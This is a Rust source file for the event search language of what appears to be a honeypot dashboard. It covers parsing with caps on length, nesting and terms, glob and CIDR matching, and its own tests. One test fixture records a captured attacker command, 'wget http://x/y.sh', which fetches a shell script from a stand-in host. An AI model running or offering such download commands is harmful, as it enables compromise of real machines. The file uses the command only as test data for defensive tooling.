//! The Events page's search language, parsed here with hard caps (length, nesting, terms)
//! and errors that say where: `service:ssh AND kind:command AND NOT source.ip:10.0.0.0/8`.
//!
//! ```text
//! query   = or
//! or      = and ("OR" and)*
//! and     = unary (["AND"] unary)*          juxtaposition is AND
//! unary   = ("NOT" | "-") unary | primary
//! primary = "(" or ")" | field ":" value | value
//! value   = word | "quoted \"text\""        `*` in a field's value matches any run
//! ```
//!
//! Keywords are case-insensitive. A bare value is case-insensitive text anywhere in the
//! event. `source.ip` takes an address, a CIDR block (`10.0.0.0/8`, `2001:db8::/32`) or a
//! prefix ending in `.` or `:`. Other fields compare case-insensitively, whole value, with
//! `*` as a wildcard. [`Query::core_filters`] lifts what the core can filter (top-level
//! positive terms) into its search; [`Query::matches`] decides the rest per event.

use serde_json::{Value, json};
use std::net::IpAddr;

/// Longest query accepted, in bytes.
pub const MAX_LEN: usize = 1024;
/// Deepest nesting of parentheses and NOTs.
pub const MAX_DEPTH: usize = 16;
/// Most terms (field:value or text) in one query.
pub const MAX_TERMS: usize = 32;
/// Longest single value, in bytes.
pub const MAX_VALUE: usize = 256;

/// A query that failed to parse: what is wrong and where (a byte offset into the query).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct QueryError {
    pub message: String,
    pub position: usize,
}

impl std::fmt::Display for QueryError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} (at character {})", self.message, self.position + 1)
    }
}

fn err<T>(position: usize, message: impl Into<String>) -> Result<T, QueryError> {
    Err(QueryError {
        message: message.into(),
        position,
    })
}

/// The fields the language knows: the name people type, aliases, and the event document's
/// path.
const FIELDS: &[(&[&str], &str)] = &[
    (&["node", "observer.name"], "observer.name"),
    (&["service", "service.name"], "service.name"),
    (&["kind", "event.action", "action"], "event.action"),
    (&["source.ip", "src", "ip"], "source.ip"),
    (&["source.port"], "source.port"),
    (&["port", "destination.port"], "destination.port"),
    (&["user", "user.name"], "user.name"),
    (&["password"], "honeybee.password"),
    (&["success", "honeybee.success"], "honeybee.success"),
    (&["command", "process.command_line"], "process.command_line"),
    (&["session", "session.id"], "session.id"),
    (
        &["country", "source.geo.country_iso_code"],
        "source.geo.country_iso_code",
    ),
    (&["url", "url.path"], "url.path"),
    (&["method", "http.request.method"], "http.request.method"),
    (
        &["status", "http.response.status_code"],
        "http.response.status_code",
    ),
    (
        &["user_agent", "user_agent.original"],
        "user_agent.original",
    ),
    (&["file", "file.name"], "file.name"),
    (&["sha256", "file.hash.sha256"], "file.hash.sha256"),
];

/// The names one may type, for error messages.
pub fn field_names() -> Vec<&'static str> {
    FIELDS.iter().map(|(names, _)| names[0]).collect()
}

fn field_path(name: &str) -> Option<&'static str> {
    let lower = name.to_ascii_lowercase();
    FIELDS
        .iter()
        .find(|(names, _)| names.contains(&lower.as_str()))
        .map(|(_, path)| *path)
}

/// What a term compares with.
#[derive(Debug, Clone, PartialEq)]
pub enum Matcher {
    /// Whole value, case-insensitive, `*` a wildcard (stored lower-case).
    Glob(String),
    /// An address block.
    Cidr(IpAddr, u8),
    /// An address prefix ending in `.` or `:`.
    Prefix(String),
    /// Case-insensitive text anywhere in the event (stored lower-case).
    Text(String),
}

#[derive(Debug, Clone, PartialEq)]
pub enum Node {
    And(Vec<Node>),
    Or(Vec<Node>),
    Not(Box<Node>),
    /// `path` is the document's dotted path; None for free text. `raw` is the value as
    /// typed (what goes to the core's exact filters).
    Term {
        path: Option<&'static str>,
        matcher: Matcher,
        raw: String,
    },
}

#[derive(Debug, Clone, PartialEq)]
pub struct Query {
    pub root: Node,
}

// ------------------------------------------------------------------ tokens

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Open,
    Close,
    And,
    Or,
    Not,
    /// A term: optional field (with its position) and the value (quoted or not).
    Term {
        field: Option<(String, usize)>,
        value: String,
        quoted: bool,
    },
}

/// Reads a quoted string starting at `bytes[start] == '"'`; returns it and the index after.
fn quoted(s: &str, start: usize) -> Result<(String, usize), QueryError> {
    let mut out = String::new();
    let mut chars = s[start + 1..].char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            '"' => return Ok((out, start + 1 + i + 1)),
            '\\' => match chars.next() {
                Some((_, e)) => out.push(e),
                None => break,
            },
            c => out.push(c),
        }
        if out.len() > MAX_VALUE {
            return err(start, format!("a value is longer than {MAX_VALUE} bytes"));
        }
    }
    err(start, "unclosed quote")
}

fn tokens(s: &str) -> Result<Vec<(Tok, usize)>, QueryError> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c.is_ascii_whitespace() {
            i += 1;
            continue;
        }
        let at = i;
        match c {
            b'(' => {
                out.push((Tok::Open, at));
                i += 1;
            }
            b')' => {
                out.push((Tok::Close, at));
                i += 1;
            }
            b'-' if i + 1 < b.len() && !b[i + 1].is_ascii_whitespace() => {
                out.push((Tok::Not, at));
                i += 1;
            }
            b'"' => {
                let (value, next) = quoted(s, i)?;
                out.push((
                    Tok::Term {
                        field: None,
                        value,
                        quoted: true,
                    },
                    at,
                ));
                i = next;
            }
            _ => {
                // A word runs to whitespace, a parenthesis or a quote; `field:` may be
                // followed by a quoted value.
                let mut j = i;
                while j < b.len() && !b[j].is_ascii_whitespace() && !b"()\"".contains(&b[j]) {
                    j += 1;
                }
                let word = &s[i..j];
                // A field name has no ':' itself; IPv6 values keep theirs.
                let split = word.find(':').filter(|&k| {
                    k > 0
                        && word[..k]
                            .bytes()
                            .all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'_')
                });
                if let Some(k) = split {
                    let field = Some((word[..k].to_owned(), at));
                    if j == i + k + 1 && j < b.len() && b[j] == b'"' {
                        let (value, next) = quoted(s, j)?;
                        out.push((
                            Tok::Term {
                                field,
                                value,
                                quoted: true,
                            },
                            at,
                        ));
                        i = next;
                        continue;
                    }
                    out.push((
                        Tok::Term {
                            field,
                            value: word[k + 1..].to_owned(),
                            quoted: false,
                        },
                        at,
                    ));
                } else {
                    let tok = match word.to_ascii_uppercase().as_str() {
                        "AND" | "&&" => Tok::And,
                        "OR" | "||" => Tok::Or,
                        "NOT" | "!" => Tok::Not,
                        _ => Tok::Term {
                            field: None,
                            value: word.to_owned(),
                            quoted: false,
                        },
                    };
                    out.push((tok, at));
                }
                i = j;
            }
        }
    }
    Ok(out)
}

// ------------------------------------------------------------------ parser

struct Parser {
    toks: Vec<(Tok, usize)>,
    at: usize,
    end: usize,
    terms: usize,
}

impl Parser {
    fn peek(&self) -> Option<&Tok> {
        self.toks.get(self.at).map(|(t, _)| t)
    }

    fn pos(&self) -> usize {
        self.toks.get(self.at).map_or(self.end, |(_, p)| *p)
    }

    fn or(&mut self, depth: usize) -> Result<Node, QueryError> {
        let mut parts = vec![self.and(depth)?];
        while self.peek() == Some(&Tok::Or) {
            self.at += 1;
            parts.push(self.and(depth)?);
        }
        Ok(if parts.len() == 1 {
            parts.pop().expect("one part")
        } else {
            Node::Or(parts)
        })
    }

    fn and(&mut self, depth: usize) -> Result<Node, QueryError> {
        let mut parts = vec![self.unary(depth)?];
        loop {
            match self.peek() {
                Some(Tok::And) => {
                    self.at += 1;
                    parts.push(self.unary(depth)?);
                }
                // Juxtaposition: `a b` is `a AND b`.
                Some(Tok::Not | Tok::Open | Tok::Term { .. }) => parts.push(self.unary(depth)?),
                _ => break,
            }
        }
        Ok(if parts.len() == 1 {
            parts.pop().expect("one part")
        } else {
            Node::And(parts)
        })
    }

    fn unary(&mut self, depth: usize) -> Result<Node, QueryError> {
        if depth >= MAX_DEPTH {
            return err(
                self.pos(),
                format!("nested more than {MAX_DEPTH} deep (parentheses and NOTs)"),
            );
        }
        match self.peek() {
            Some(Tok::Not) => {
                self.at += 1;
                Ok(Node::Not(Box::new(self.unary(depth + 1)?)))
            }
            Some(Tok::Open) => {
                let open = self.pos();
                self.at += 1;
                let inner = self.or(depth + 1)?;
                match self.peek() {
                    Some(Tok::Close) => {
                        self.at += 1;
                        Ok(inner)
                    }
                    _ => err(open, "this parenthesis is never closed"),
                }
            }
            Some(Tok::Term { .. }) => {
                let pos = self.pos();
                let Some((
                    Tok::Term {
                        field,
                        value,
                        quoted,
                    },
                    _,
                )) = self.toks.get(self.at).cloned()
                else {
                    unreachable!("peeked a term");
                };
                self.at += 1;
                self.terms += 1;
                if self.terms > MAX_TERMS {
                    return err(pos, format!("more than {MAX_TERMS} terms"));
                }
                term(field, value, quoted, pos)
            }
            Some(Tok::Close) => err(self.pos(), "unexpected ')'"),
            Some(Tok::And) => err(self.pos(), "AND needs a term on its left"),
            Some(Tok::Or) => err(self.pos(), "OR needs a term on its left"),
            None => err(self.end, "the query ends where a term should be"),
        }
    }
}

fn term(
    field: Option<(String, usize)>,
    value: String,
    quoted: bool,
    pos: usize,
) -> Result<Node, QueryError> {
    if value.len() > MAX_VALUE {
        return err(pos, format!("a value is longer than {MAX_VALUE} bytes"));
    }
    let Some((name, fpos)) = field else {
        if value.is_empty() {
            return err(pos, "empty text");
        }
        return Ok(Node::Term {
            path: None,
            matcher: Matcher::Text(value.to_lowercase()),
            raw: value,
        });
    };
    let Some(path) = field_path(&name) else {
        return err(
            fpos,
            format!(
                "unknown field {name:?}; fields: {}",
                field_names().join(", ")
            ),
        );
    };
    let vpos = fpos + name.len() + 1;
    if value.is_empty() {
        return err(vpos, format!("{name}: needs a value"));
    }
    let matcher = match path {
        "source.ip" => ip_matcher(&value, quoted).ok_or_else(|| QueryError {
            message: format!(
                "{name}: {value:?} is not an address, a CIDR block (10.0.0.0/8) or a prefix ending in '.' or ':'"
            ),
            position: vpos,
        })?,
        "event.action" => {
            let v = value.to_ascii_lowercase();
            if !v.contains('*') && !honeybee_proto::event::EventKind::NAMES.contains(&v.as_str()) {
                return err(
                    vpos,
                    format!(
                        "{name}: {value:?} is not an event kind ({})",
                        honeybee_proto::event::EventKind::NAMES.join(", ")
                    ),
                );
            }
            Matcher::Glob(v)
        }
        _ => Matcher::Glob(value.to_lowercase()),
    };
    Ok(Node::Term {
        path: Some(path),
        matcher,
        raw: value,
    })
}

fn ip_matcher(v: &str, quoted: bool) -> Option<Matcher> {
    if let Some((net, bits)) = v.split_once('/') {
        let net: IpAddr = net.parse().ok()?;
        let bits: u8 = bits.parse().ok()?;
        let max = if net.is_ipv4() { 32 } else { 128 };
        return (bits <= max).then_some(Matcher::Cidr(net, bits));
    }
    if let Ok(ip) = v.parse::<IpAddr>() {
        let bits = if ip.is_ipv4() { 32 } else { 128 };
        return Some(Matcher::Cidr(ip, bits));
    }
    if !quoted
        && (v.ends_with('.') || v.ends_with(':'))
        && v.bytes()
            .all(|c| c.is_ascii_hexdigit() || c == b'.' || c == b':')
    {
        return Some(Matcher::Prefix(v.to_ascii_lowercase()));
    }
    None
}

/// Parses `text` within the caps.
pub fn parse(text: &str) -> Result<Query, QueryError> {
    if text.len() > MAX_LEN {
        return err(MAX_LEN, format!("the query is longer than {MAX_LEN} bytes"));
    }
    let toks = tokens(text)?;
    if toks.is_empty() {
        return err(0, "the query is empty");
    }
    let mut p = Parser {
        toks,
        at: 0,
        end: text.len(),
        terms: 0,
    };
    let root = p.or(0)?;
    if p.at < p.toks.len() {
        let what = match p.peek() {
            Some(Tok::Close) => "unexpected ')' (no '(' to close)",
            _ => "unexpected text after the query",
        };
        return err(p.pos(), what);
    }
    Ok(Query { root })
}

// ------------------------------------------------------------------ evaluation

/// `*`-glob match of `pat` (lower-case) against `s` (lower-cased here), linear with one
/// backtrack point, so no input makes it explode.
fn glob(pat: &str, s: &str) -> bool {
    let s = s.to_lowercase();
    let (p, t): (Vec<char>, Vec<char>) = (pat.chars().collect(), s.chars().collect());
    let (mut pi, mut ti) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        if pi < p.len() && p[pi] == '*' {
            star = Some((pi, ti));
            pi += 1;
        } else if pi < p.len() && p[pi] == t[ti] {
            pi += 1;
            ti += 1;
        } else if let Some((sp, st)) = star {
            pi = sp + 1;
            ti = st + 1;
            star = Some((sp, st + 1));
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&c| c == '*')
}

pub(crate) fn in_cidr(ip: IpAddr, net: IpAddr, bits: u8) -> bool {
    match (ip, net) {
        (IpAddr::V4(a), IpAddr::V4(n)) => {
            let mask = if bits == 0 {
                0
            } else {
                u32::MAX << (32 - u32::from(bits))
            };
            u32::from(a) & mask == u32::from(n) & mask
        }
        (IpAddr::V6(a), IpAddr::V6(n)) => {
            let mask = if bits == 0 {
                0
            } else {
                u128::MAX << (128 - u32::from(bits))
            };
            u128::from(a) & mask == u128::from(n) & mask
        }
        // An IPv4-mapped IPv6 address against an IPv4 block.
        (IpAddr::V6(a), IpAddr::V4(_)) => a
            .to_ipv4_mapped()
            .is_some_and(|v4| in_cidr(IpAddr::V4(v4), net, bits)),
        _ => false,
    }
}

fn lookup<'a>(doc: &'a Value, path: &str) -> Option<&'a Value> {
    if let Some(v) = doc.get(path) {
        return Some(v);
    }
    path.split('.').try_fold(doc, |cur, k| cur.get(k))
}

fn scalar(v: &Value) -> Option<String> {
    match v {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

impl Query {
    /// Whether the event document `doc` (with `text`, its JSON lower-cased, for free text)
    /// matches. Iterative over the tree's depth, which the parser capped.
    pub fn matches(&self, doc: &Value, text: &str) -> bool {
        eval(&self.root, doc, text)
    }

    /// The filters the core can apply itself: positive terms at the top level (the query
    /// is their AND with the rest). Every event the core returns is still checked with
    /// [`Query::matches`].
    pub fn core_filters(&self) -> CoreFilters {
        let mut f = CoreFilters::default();
        let top: &[Node] = match &self.root {
            Node::And(parts) => parts,
            one => std::slice::from_ref(one),
        };
        for n in top {
            let Node::Term { path, matcher, raw } = n else {
                continue;
            };
            // The core's filters are exact: the value goes as typed (node ids and kinds
            // are lower-case anyway; a service name may not be).
            match (path, matcher) {
                (Some("observer.name"), Matcher::Glob(v)) if !v.contains('*') => {
                    f.node.get_or_insert_with(|| v.clone());
                }
                (Some("service.name"), Matcher::Glob(v)) if !v.contains('*') => {
                    f.service.get_or_insert_with(|| raw.clone());
                }
                (Some("event.action"), Matcher::Glob(v)) if !v.contains('*') => {
                    f.kind.get_or_insert_with(|| v.clone());
                }
                (Some("source.ip"), Matcher::Cidr(ip, bits))
                    if *bits == if ip.is_ipv4() { 32 } else { 128 } =>
                {
                    f.src.get_or_insert_with(|| ip.to_string());
                }
                (Some("source.ip"), Matcher::Prefix(p)) => {
                    f.src.get_or_insert_with(|| p.clone());
                }
                (None, Matcher::Text(t)) => {
                    f.text.get_or_insert_with(|| t.clone());
                }
                _ => {}
            }
        }
        f
    }

    /// Whether the core's filters ([`Query::core_filters`]) say all the query says: every
    /// top-level part is a distinct node, service, kind or exact-address term. Then the
    /// core's count of those filters is the query's exact total; otherwise it is an upper
    /// bound. (Free text is left out: the core's text search and this one read different
    /// renderings of an event.)
    pub fn fully_lifted(&self) -> bool {
        let top: &[Node] = match &self.root {
            Node::And(parts) => parts,
            one => std::slice::from_ref(one),
        };
        let mut seen: Vec<&str> = Vec::new();
        top.iter().all(|n| {
            let Node::Term {
                path: Some(path),
                matcher,
                ..
            } = n
            else {
                return false;
            };
            let ok = match (*path, matcher) {
                ("observer.name" | "service.name" | "event.action", Matcher::Glob(v)) => {
                    !v.contains('*')
                }
                ("source.ip", Matcher::Cidr(ip, bits)) => {
                    *bits == if ip.is_ipv4() { 32 } else { 128 }
                }
                _ => false,
            };
            let fresh = !seen.contains(path);
            seen.push(path);
            ok && fresh
        })
    }

    /// The tree as JSON, for the web app to apply the same query to live events.
    pub fn to_json(&self) -> Value {
        node_json(&self.root)
    }
}

/// What [`Query::core_filters`] lifts into the core's event search.
#[derive(Debug, Default, PartialEq)]
pub struct CoreFilters {
    pub node: Option<String>,
    pub service: Option<String>,
    pub kind: Option<String>,
    pub src: Option<String>,
    pub text: Option<String>,
}

fn eval(n: &Node, doc: &Value, text: &str) -> bool {
    match n {
        Node::And(parts) => parts.iter().all(|p| eval(p, doc, text)),
        Node::Or(parts) => parts.iter().any(|p| eval(p, doc, text)),
        Node::Not(inner) => !eval(inner, doc, text),
        Node::Term {
            path: None,
            matcher,
            ..
        } => match matcher {
            Matcher::Text(t) => text.contains(t.as_str()),
            _ => false,
        },
        Node::Term {
            path: Some(path),
            matcher,
            ..
        } => {
            let Some(v) = lookup(doc, path).and_then(scalar) else {
                return false;
            };
            match matcher {
                Matcher::Glob(p) => glob(p, &v),
                Matcher::Text(t) => v.to_lowercase().contains(t.as_str()),
                Matcher::Prefix(p) => v.to_ascii_lowercase().starts_with(p.as_str()),
                Matcher::Cidr(net, bits) => {
                    v.parse::<IpAddr>().is_ok_and(|ip| in_cidr(ip, *net, *bits))
                }
            }
        }
    }
}

fn node_json(n: &Node) -> Value {
    match n {
        Node::And(p) => json!({"op": "and", "args": p.iter().map(node_json).collect::<Vec<_>>()}),
        Node::Or(p) => json!({"op": "or", "args": p.iter().map(node_json).collect::<Vec<_>>()}),
        Node::Not(i) => json!({"op": "not", "arg": node_json(i)}),
        Node::Term { path, matcher, .. } => {
            let m = match matcher {
                Matcher::Glob(v) => json!({"match": "glob", "value": v}),
                Matcher::Text(v) => json!({"match": "text", "value": v}),
                Matcher::Prefix(v) => json!({"match": "prefix", "value": v}),
                Matcher::Cidr(ip, bits) => {
                    json!({"match": "cidr", "value": ip.to_string(), "bits": bits})
                }
            };
            let mut m = m;
            m["op"] = json!("term");
            m["field"] = json!(path);
            m
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn doc(service: &str, kind: &str, ip: &str) -> Value {
        json!({
            "service": {"name": service},
            "event": {"action": kind},
            "source": {"ip": ip, "port": 40000},
            "observer": {"name": "local"},
            "process": {"command_line": "wget http://x/y.sh"},
            "honeybee": {"success": false},
        })
    }

    fn hit(q: &str, d: &Value) -> bool {
        let text = d.to_string().to_lowercase();
        parse(q)
            .unwrap_or_else(|e| panic!("{q}: {e}"))
            .matches(d, &text)
    }

    #[test]
    fn the_issue_example() {
        let q = "service:ssh AND kind:command AND NOT source.ip:10.0.0.0/8";
        assert!(hit(q, &doc("ssh", "command", "203.0.113.7")));
        assert!(!hit(q, &doc("ssh", "command", "10.1.2.3")));
        assert!(!hit(q, &doc("telnet", "command", "203.0.113.7")));
        assert!(!hit(q, &doc("ssh", "connect", "203.0.113.7")));
        let f = parse(q).unwrap().core_filters();
        assert_eq!(
            f,
            CoreFilters {
                service: Some("ssh".into()),
                kind: Some("command".into()),
                ..Default::default()
            }
        );
    }

    #[test]
    fn or_parentheses_exclusions_and_text() {
        let ssh = doc("ssh", "command", "203.0.113.7");
        let tel = doc("telnet", "command", "198.51.100.1");
        let q = "(service:ssh OR service:telnet) -src:198.51.100.0/24";
        assert!(hit(q, &ssh));
        assert!(!hit(q, &tel));
        assert!(hit("wget", &ssh), "bare words are text anywhere");
        assert!(hit("command:wget*", &ssh));
        assert!(
            !hit("command:wget", &ssh),
            "a field value is the whole value"
        );
        assert!(hit("command:\"wget http://x/y.sh\"", &ssh));
        assert!(hit("src:203.0.113.", &ssh));
        assert!(hit("success:false", &ssh));
        assert!(
            hit("service:SSH and not kind:connect", &ssh),
            "keywords and values ignore case"
        );
        assert!(
            hit("service:ssh kind:command", &ssh),
            "juxtaposition is AND"
        );
        assert!(!hit("zzqq OR yyxx", &ssh));
        assert!(hit("zzqq OR wget", &ssh));
        assert_eq!(
            parse("service:HTTP-Alt")
                .unwrap()
                .core_filters()
                .service
                .as_deref(),
            Some("HTTP-Alt"),
            "the core's exact filter gets the value as typed"
        );
        assert_eq!(
            parse("service:ssh OR kind:command").unwrap().core_filters(),
            CoreFilters::default(),
            "nothing is lifted out of an OR"
        );
        assert_eq!(
            parse("src:203.0.113.7 x").unwrap().core_filters(),
            CoreFilters {
                src: Some("203.0.113.7".into()),
                text: Some("x".into()),
                ..Default::default()
            }
        );
    }

    #[test]
    fn ipv6_and_mapped_addresses() {
        assert!(hit(
            "src:2001:db8::/32",
            &doc("ssh", "connect", "2001:db8::1")
        ));
        assert!(!hit(
            "src:2001:db8::/32",
            &doc("ssh", "connect", "2001:db9::1")
        ));
        assert!(hit(
            "src:10.0.0.0/8",
            &doc("ssh", "connect", "::ffff:10.9.9.9")
        ));
        assert!(hit("src:0.0.0.0/0", &doc("ssh", "connect", "192.0.2.1")));
    }

    #[test]
    fn errors_say_what_and_where() {
        let e = |q: &str| parse(q).unwrap_err();
        assert_eq!(e("service:ssh AND").position, 15);
        assert_eq!(e("(service:ssh").position, 0);
        assert!(e("(service:ssh").message.contains("never closed"));
        assert_eq!(e("service:ssh )").position, 12);
        assert_eq!(e("bogus:1").position, 0);
        assert!(e("bogus:1").message.contains("unknown field"));
        let k = e("service:ssh AND kind:nope");
        assert_eq!(k.position, 21);
        assert!(k.message.contains("not an event kind"), "{k}");
        assert_eq!(e("src:10.0.0.0/33").position, 4);
        assert_eq!(e("src:banana").position, 4);
        assert_eq!(e("OR x").position, 0);
        assert_eq!(e("user:\"root").position, 5);
        assert_eq!(e("").position, 0);
        assert_eq!(e("   ").position, 0);
        assert_eq!(e("service:").position, 8);
    }

    #[test]
    fn hostile_input_hits_the_caps_not_the_stack() {
        // Deep nesting: refused at the cap, no recursion past it.
        let deep = format!("{}x{}", "(".repeat(100_000), ")".repeat(100_000));
        let e = parse(&deep).unwrap_err();
        assert!(e.message.contains("longer than"), "{e}");
        let deep = format!("{}x{}", "(".repeat(600), ")".repeat(600));
        let e = parse(&deep).unwrap_err();
        assert!(e.message.contains("longer than"), "{e}");
        let deep = format!("{}x{}", "(".repeat(40), ")".repeat(40));
        let e = parse(&deep).unwrap_err();
        assert!(e.message.contains("nested"), "{e}");
        assert_eq!(e.position, MAX_DEPTH);
        let nots = format!("{}x", "NOT ".repeat(40));
        assert!(parse(&nots).unwrap_err().message.contains("nested"));
        let dashes = format!("{}x", "-".repeat(40));
        assert!(parse(&dashes).unwrap_err().message.contains("nested"));
        let ok = format!(
            "{}x{}",
            "(".repeat(MAX_DEPTH - 1),
            ")".repeat(MAX_DEPTH - 1)
        );
        assert!(parse(&ok).is_ok());
        // Too many terms.
        let many = vec!["a"; MAX_TERMS + 1].join(" OR ");
        assert!(parse(&many).unwrap_err().message.contains("terms"));
        assert!(parse(&vec!["a"; MAX_TERMS].join(" OR ")).is_ok());
        // Huge input, a huge value, odd bytes: errors, never panics.
        assert!(parse(&"a".repeat(10 * 1024 * 1024)).is_err());
        assert!(parse(&format!("user:{}", "x".repeat(MAX_VALUE + 1))).is_err());
        assert!(parse(&format!("\"{}\"", "x".repeat(MAX_VALUE + 1))).is_err());
        for q in [
            "\"\\",
            "\u{0}:\u{0}",
            "é:ü",
            ")(",
            "((",
            "-",
            "- x",
            "::",
            ":x",
            "user:\"\"",
            "\"\"",
            "NOT",
            "x AND OR y",
        ] {
            let _ = parse(q);
        }
        // A glob that would explode with naive backtracking stays linear.
        let pat = format!("command:{}b", "*a".repeat(60));
        let d = json!({"process": {"command_line": "a".repeat(5000)}});
        assert!(!hit(&pat, &d));
    }

    #[test]
    fn the_tree_goes_to_the_browser_as_json() {
        let j = parse("service:ssh -src:10.0.0.0/8").unwrap().to_json();
        assert_eq!(j["op"], "and");
        assert_eq!(
            j["args"][0],
            json!({"op": "term", "field": "service.name", "match": "glob", "value": "ssh"})
        );
        assert_eq!(j["args"][1]["op"], "not");
        assert_eq!(j["args"][1]["arg"]["match"], "cidr");
        assert_eq!(j["args"][1]["arg"]["bits"], 8);
    }
}
